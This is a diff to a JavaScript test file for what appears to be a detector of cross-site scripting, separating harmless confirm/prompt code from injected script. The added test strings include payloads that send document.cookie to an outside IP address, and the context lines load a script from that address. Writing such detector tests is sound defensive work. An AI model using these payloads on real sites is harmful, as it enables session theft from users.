@@ -43,6 +43,7 @@ describe('harmless text', () => {
     'if (!(await confirm({ message: "Overwrite the draft?" }))) return;',
     'const choice = await prompts.confirm({\n  title: `Remove the file?`,\n  force: true,\n});',
     "button.onclick = () => { alert('Sold to ' + guest.fullName + '. Seat: ' + guest.seat); };",
+    'if (!confirm("Leave the table?")) return;',
     'answer = input(prompt)',
     'response = llm.invoke(prompt)\nprint(response)',
     'const tokens = count(encoder.encode(prompt));',
@@ -56,6 +57,9 @@ describe('harmless text', () => {
 
 test.each([
   'let a = prompt("a", alert(1));',
+  "alert(a.b);document.location='//203.0.113.9/'+document.cookie",
+  `${'alert(a.b);'.repeat(12)}alert(document.domain)`,
+  "if(confirm('a')){location='//203.0.113.9/'+document.cookie}",
   '[1].map(prompt)',
   'setTimeout(prompt)',
   'show=a=>a(1);show(prompt)',
@@ -67,7 +71,7 @@ test.each([
   '<svg><script src={url} href=//203.0.113.9/a.js>',
   '<iframe src={a()} />',
   '<iframe src="{x}//203.0.113.9/">',
-])('what stands beside the name of an address counts: %s', (text) => {
+])('what stands beside what is harmless counts: %s', (text) => {
   expect(confidenceOf(text)).toBeGreaterThanOrEqual(0.5);
 });
 
